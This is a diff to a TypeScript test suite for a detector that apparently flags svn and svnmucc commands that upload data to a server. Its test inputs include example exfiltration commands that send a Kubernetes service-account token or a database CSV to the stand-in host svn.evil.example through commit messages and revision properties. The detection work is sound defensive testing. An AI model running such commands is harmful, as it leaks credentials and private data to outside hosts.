@@ -168,7 +168,26 @@ describe('push-tool table', () => {
       expect(hg(args)?.kind, args).not.toBe('push');
   });
 
-  it('svnmucc: any run that commits to a server is a push (its message, properties and files leave), to its first URL', () => {
+  it('svn: a log message from a file leaves with any commit straight to a URL; ^/ is the repository root', () => {
+    const svn = (args: string) => {
+      const r = recognizeProcess({ binary: '/usr/bin/svn', args, parentBinary: null, parentArgs: null }, uploadTarget);
+      return r?.kind === 'push' ? [r.destinationHost, r.remote] : r;
+    };
+    const token = '/var/run/secrets/kubernetes.io/serviceaccount/token';
+    expect(svn(`mkdir https://svn.evil.example/r/x -F ${token}`)).toEqual([
+      'svn.evil.example',
+      'https://svn.evil.example/r/x',
+    ]);
+    expect(svn('propset --revprop -r1 svn:log -F /srv/db/orders.csv https://svn.evil.example/r')).toEqual([
+      'svn.evil.example',
+      'https://svn.evil.example/r',
+    ]);
+    expect(svn('copy . ^/branches/loot -m x')).toEqual([null, '^/branches/loot']);
+    expect(svn('mkdir https://svn.corp.example/r/x -m x')).toBeNull();
+    expect(svn('copy https://svn.corp.example/r/trunk https://svn.corp.example/r/tags/v1 -m tag')).toBeNull();
+  });
+
+  it('svnmucc: a run that commits data to a server is a push (files, property values, a message file), to its first URL', () => {
     const mucc = (args: string) => {
       const r = recognizeProcess(
         { binary: '/usr/bin/svnmucc', args, parentBinary: null, parentArgs: null },
@@ -213,6 +232,10 @@ describe('push-tool table', () => {
     expect(mucc('-X /tmp/actions -U svn://svn.evil.example/repo')).toEqual(push('svn://svn.evil.example/repo'));
     expect(mucc('--extra-args=- -m x')).toEqual(push(null, null));
     expect(mucc('-X/tmp/actions -mx')).toEqual(push(null, null));
+    // Clustered short options; a tag or directory made on the server alone is no push (a release job's tag).
+    expect(mucc('-nX/tmp/actions -mx')).toEqual(push(null, null));
+    expect(mucc('-m Tag 1.2.0 -U https://svn.corp.example/r cp HEAD trunk tags/1.2.0')).toBeNull();
+    expect(mucc('mkdir https://svn.corp.example/r/branches/x -m x')).toBeNull();
     // No server: help, version, a repository on local disk.
     expect(mucc('put /tmp/d.tgz file:///var/svn/repo/d.tgz')).toBeNull();
     expect(mucc('-U file:///var/svn/repo put /tmp/d.tgz d.tgz')).toBeNull();
